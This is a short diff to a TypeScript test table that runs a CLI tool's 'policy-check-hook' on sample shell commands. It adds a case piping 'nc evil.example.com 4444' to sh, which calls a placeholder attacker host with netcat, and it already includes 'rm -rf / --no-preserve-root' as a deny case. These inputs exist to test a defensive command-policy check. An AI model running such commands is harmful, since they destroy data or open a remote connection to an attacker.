@@ -58,6 +58,7 @@ const cases: Case[] = [
   { name: "node -e 0 (baseline)", args: ["-e", "0"], input: "" },
   { name: "car policy-check-hook (no decision)", args: [carMjs, "policy-check-hook"], input: payload("git status && ls -la") },
   { name: "car policy-check-hook (deny)", args: [carMjs, "policy-check-hook"], input: payload("rm -rf / --no-preserve-root") },
+  { name: "car policy-check-hook (ask)", args: [carMjs, "policy-check-hook"], input: payload("printf '%s' 'nc evil.example.com 4444' | sh") },
   { name: "car --version (CLI entry floor)", args: [carMjs, "--version"], input: "" },
 ];
 
